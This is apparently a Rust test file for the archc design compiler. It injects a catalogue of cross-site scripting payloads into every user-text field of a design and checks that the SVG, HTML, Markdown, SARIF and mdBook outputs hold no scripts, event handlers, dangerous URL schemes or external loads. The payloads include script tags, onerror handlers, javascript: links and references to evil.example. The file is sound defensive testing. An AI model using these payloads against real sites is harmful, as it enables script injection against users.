//! No active content in any output: a catalogue of cross-site scripting payloads is written
//! into every piece of user text a design holds (title, description, labels, `why`,
//! `software`, `x-` attributes, link labels, certificates, a host's provider and region, the
//! reason of an `allow`), and every output is parsed as a browser or a viewer would read it:
//! the SVG with an XML parser, the HTML page with an HTML5 parser, the Markdown write-up
//! rendered by a CommonMark renderer that passes raw HTML through (as GitHub's and mdBook's
//! do) and then parsed as HTML, the SARIF log as JSON, and a real `mdbook build` of a book
//! whose `arch` blocks hold the payloads. None may hold a script, an event handler, a
//! `javascript:` (or `data:`, `vbscript:`) URL, or a reference that loads from elsewhere.

use archc::syntax::ast::quote;
use scraper::{Html, Selector};

/// The payloads: markup, event handlers, dangerous link targets in Markdown links,
/// autolinks, reference definitions and images, entity tricks, XML section and comment
/// breakers, SVG references, CSS, and Unicode tricks.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click]( javascript:alert(1) \"title\")",
    "[click](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://evil.example/x>",
    "![x](https://evil.example/track.png)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/i.png)](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script><!--",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<use href=\"https://evil.example/x.svg#a\"/>",
    "<use xlink:href=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\"/>",
    "<image href=\"https://evil.example/x.png\"/>",
    "<foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "x\" style=\"background:url(https://evil.example/x.png)",
    "<iframe src=//evil.example></iframe>",
    "<object data=https://evil.example/x></object>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "`<script>alert(1)</script>`",
    "*<script>alert(1)</script>*",
    "# <script>alert(1)</script>",
    "| <script> | x |\n|---|---|",
    "\u{202E}<script>alert(1)</script>",
    "\u{FEFF}<scr\u{200B}ipt>alert(1)</script>",
    "\u{0}<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u{2028}<script>alert(1)</script>",
];

/// A design that holds `payload` in every place that takes user text.
fn design(payload: &str) -> String {
    let p = quote(payload);
    format!(
        "title {p}\n\
         description {p}\n\
         client user {p} {{ why = {p}; software = {p}; x-note = {p} }}\n\
         dns dns {p} {{ records = [\"www.foobar.com A 8.8.8.8\"] }}\n\
         zone dmz {p} {{\n\
           trust = dmz\n\
           host web-01 {p} {{\n\
             provider = {p}\n\
             region = {p}\n\
             web_server nginx {p} {{ why = {p}; certificate = {p}; x-a = {p} }}\n\
             app_server app {p} {{ software = {p} }}\n\
             database db {p} {{ x-b = {p} }}\n\
           }}\n\
         }}\n\
         user -> dns : dns {p}\n\
         user -> nginx : https {p}\n\
         nginx -> app : http {p}\n\
         app -> db : mysql {p}\n\
         allow no-monitoring on web-01 {p}\n"
    )
}

/// Attributes that hold a URL.
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "xlink:href",
    "action",
    "formaction",
    "data",
    "poster",
    "srcset",
    "background",
    "cite",
    "longdesc",
    "content",
    "ping",
];

/// Attributes whose URL the browser loads without a click.
const LOADING_ATTRIBUTES: &[&str] = &[
    "src",
    "srcset",
    "poster",
    "data",
    "xlink:href",
    "background",
];

/// Asserts an HTML document or fragment has no active content. `where_` names it.
fn assert_inert_html(html: &str, where_: &str) {
    let doc = Html::parse_document(html);
    let all = Selector::parse("*").unwrap();
    for el in doc.select(&all) {
        let name = el.value().name().to_ascii_lowercase();
        assert!(
            !matches!(
                name.as_str(),
                "script"
                    | "iframe"
                    | "object"
                    | "embed"
                    | "base"
                    | "form"
                    | "link"
                    | "frame"
                    | "foreignobject"
                    | "applet"
                    | "meta"
            ) || (name == "meta" && el.value().attr("http-equiv").is_none()),
            "{where_}: an active <{name}> element"
        );
        for (key, value) in el.value().attrs() {
            let key = key.to_ascii_lowercase();
            assert!(
                !key.starts_with("on"),
                "{where_}: event handler {key}={value:?}"
            );
            // A URL as a browser reads it: control characters and spaces removed.
            let url: String = value
                .chars()
                .filter(|c| !c.is_control() && !c.is_whitespace())
                .collect::<String>()
                .to_ascii_lowercase();
            let scheme = url
                .find([':', '/', '?', '#'])
                .filter(|&i| url[i..].starts_with(':'))
                .map(|i| &url[..i]);
            if URL_ATTRIBUTES.contains(&key.as_str()) {
                assert!(
                    scheme.is_none_or(|s| matches!(s, "http" | "https" | "mailto")),
                    "{where_}: <{name} {key}={value:?}>"
                );
            }
            // What loads by itself: only from the document or a relative file.
            if LOADING_ATTRIBUTES.contains(&key.as_str())
                || (key == "href" && matches!(name.as_str(), "use" | "image" | "link"))
            {
                assert!(
                    scheme.is_none() && !url.starts_with("//"),
                    "{where_}: external reference <{name} {key}={value:?}>"
                );
            }
            if key == "style" {
                assert!(!url.contains("url("), "{where_}: style url() {value:?}");
            }
        }
        if name == "style" {
            let css = el.text().collect::<String>().to_ascii_lowercase();
            assert!(!css.contains("@import"), "{where_}: @import");
            for (i, _) in css.match_indices("url(") {
                let inner = css[i + 4..].trim_start_matches(['"', '\'', ' ']);
                assert!(inner.starts_with('#'), "{where_}: url() in a style sheet");
            }
        }
    }
}

/// The Markdown rendered as GitHub or mdBook would (raw HTML passed through), then checked.
fn assert_inert_markdown(md: &str, where_: &str) {
    let mut html = String::new();
    let mut options = pulldown_cmark::Options::empty();
    options.insert(pulldown_cmark::Options::ENABLE_TABLES);
    options.insert(pulldown_cmark::Options::ENABLE_STRIKETHROUGH);
    pulldown_cmark::html::push_html(&mut html, pulldown_cmark::Parser::new_ext(md, options));
    assert_inert_html(&html, where_);
}

#[test]
fn no_output_carries_active_content() {
    for payload in PAYLOADS {
        let source = design(payload);
        let compiled = archc::compile(&source, "xss")
            .unwrap_or_else(|e| panic!("{payload:?}: the design does not compile: {e:?}"));
        let model = &compiled.model;
        let review = archc::analysis::review(model);
        let svg = archc::render::render_svg(model, &archc::render::SvgOptions::for_model(model));
        archc::fuzzing::assert_inert_svg(&svg);
        assert_inert_html(&svg, &format!("{payload:?} in the SVG read as HTML"));

        for (name, bytes) in archc::build_outputs("xss", model, &review, Default::default()) {
            let text = String::from_utf8(bytes).unwrap();
            if name.ends_with(".md") {
                assert_inert_markdown(&text, &format!("{payload:?} in {name}"));
            } else {
                archc::fuzzing::assert_inert_svg(&text);
            }
        }
        let inline = archc::render::markdown::DocOptions {
            svg_link: None,
            inline_svg: Some(svg.clone()),
            detail: archc::render::markdown::Detail::Full,
        };
        let md = archc::render::markdown::markdown(model, &review, &inline);
        assert_inert_markdown(
            &md,
            &format!("{payload:?} in the write-up with its diagram"),
        );
        for options in [inline, Default::default()] {
            let page = archc::render::html::html(model, &review, &options);
            assert_inert_html(&page, &format!("{payload:?} in the HTML page"));
        }

        let file = archc::render::review::FileReview {
            file: "xss.arch",
            source: &source,
            model,
            review: &review,
            what_if: None,
        };
        let sarif: serde_json::Value =
            serde_json::from_str(&archc::render::sarif::sarif(&[file])).unwrap();
        let mut markdowns = Vec::new();
        collect_markdown(&sarif, &mut markdowns);
        for md in markdowns {
            assert_inert_markdown(md, &format!("{payload:?} in SARIF"));
        }
    }
}

/// Every `markdown` string of a SARIF log (what a code-scanning page renders).
fn collect_markdown<'a>(value: &'a serde_json::Value, out: &mut Vec<&'a str>) {
    match value {
        serde_json::Value::Object(map) => {
            for (k, v) in map {
                match (k.as_str(), v) {
                    ("markdown", serde_json::Value::String(s)) => out.push(s),
                    _ => collect_markdown(v, out),
                }
            }
        }
        serde_json::Value::Array(items) => items.iter().for_each(|v| collect_markdown(v, out)),
        _ => {}
    }
}

/// The description keeps what it is for: emphasis, code and safe links.
#[test]
fn descriptions_keep_emphasis_code_and_safe_links() {
    let source = format!(
        "description {}\nclient u\nweb_server w\nu -> w : https\n",
        quote("*Fast* and **safe**, see `archc` [docs](https://archc.example/a?b=1&c=2), [mail](mailto:a@b.example), [rules](docs/rules.md) <ops@b.example> but [bad](javascript:alert(1))")
    );
    let compiled = archc::compile(&source, "d").unwrap();
    let review = archc::analysis::review(&compiled.model);
    let page = archc::render::html::html(&compiled.model, &review, &Default::default());
    for kept in [
        "<em>Fast</em>",
        "<strong>safe</strong>",
        "<code>archc</code>",
        "<a href=\"https://archc.example/a?b=1&amp;c=2\">docs</a>",
        "<a href=\"mailto:a@b.example\">mail</a>",
        "<a href=\"docs/rules.md\">rules</a>",
        "<a href=\"mailto:ops@b.example\">ops@b.example</a>",
        "but bad",
    ] {
        assert!(page.contains(kept), "{kept} not in:\n{page}");
    }
    assert!(!page.contains("javascript"), "{page}");
}

/// `mdbook`, if installed; outside CI a missing mdbook skips the real build.
fn mdbook() -> Option<&'static str> {
    let found = std::process::Command::new("mdbook")
        .arg("--version")
        .output()
        .ok()
        .is_some_and(|o| o.status.success());
    if !found {
        assert!(
            std::env::var_os("CI").is_none(),
            "mdbook is not installed, and CI must run the real build"
        );
        eprintln!("mdbook is not installed: skipping the real build");
    }
    found.then_some("mdbook")
}

#[test]
fn a_real_mdbook_build_of_the_payloads_is_inert() {
    let Some(mdbook) = mdbook() else { return };
    let book = tempfile::tempdir().unwrap();
    let src = book.path().join("src");
    std::fs::create_dir_all(&src).unwrap();
    std::fs::write(
        book.path().join("book.toml"),
        "[book]\ntitle = \"payloads\"\n\n[preprocessor.archc]\ncommand = \"mdbook-archc\"\non-error = \"render\"\n",
    )
    .unwrap();
    let mut summary = String::from("# Summary\n\n- [Plain](plain.md)\n");
    std::fs::write(src.join("plain.md"), "# Plain\n\nNo design here.\n").unwrap();
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let chapter = format!(
            "# Payload {i}\n\n```arch,doc,review\n{}```\n\n```arch\nclient u {}\nu -> nowhere\n```\n",
            design(payload),
            quote(payload)
        );
        std::fs::write(src.join(format!("p{i}.md")), chapter).unwrap();
        summary.push_str(&format!("- [Payload {i}](p{i}.md)\n"));
    }
    std::fs::write(src.join("SUMMARY.md"), summary).unwrap();
    let out_dir = tempfile::tempdir().unwrap();
    let out = std::process::Command::new(mdbook)
        .arg("build")
        .arg(book.path())
        .arg("--dest-dir")
        .arg(out_dir.path())
        .env(
            "MDBOOK_PREPROCESSOR__ARCHC__COMMAND",
            env!("CARGO_BIN_EXE_mdbook-archc"),
        )
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // mdBook's own pages carry its scripts: a payload page must carry exactly those, and the
    // parts archc wrote none at all.
    let scripts = |html: &str| {
        let doc = Html::parse_document(html);
        doc.select(&Selector::parse("script").unwrap())
            .map(|s| s.html())
            .collect::<Vec<_>>()
    };
    let plain = std::fs::read_to_string(out_dir.path().join("plain.html")).unwrap();
    let archc_parts = Selector::parse("div.archc").unwrap();
    let main = Selector::parse("main").unwrap();
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let page = std::fs::read_to_string(out_dir.path().join(format!("p{i}.html"))).unwrap();
        let doc = Html::parse_document(&page);
        let parts: Vec<String> = doc.select(&archc_parts).map(|d| d.html()).collect();
        assert_eq!(parts.len(), 2, "{payload:?}: the diagram and the error");
        for part in &parts {
            assert_inert_html(part, &format!("{payload:?} in the mdBook page"));
        }
        let body: String = doc.select(&main).map(|m| m.html()).collect();
        assert_inert_html(&body, &format!("{payload:?} in the mdBook chapter"));
        assert_eq!(
            scripts(&page).len(),
            scripts(&plain).len(),
            "{payload:?}: the page has scripts of its own"
        );
    }
}
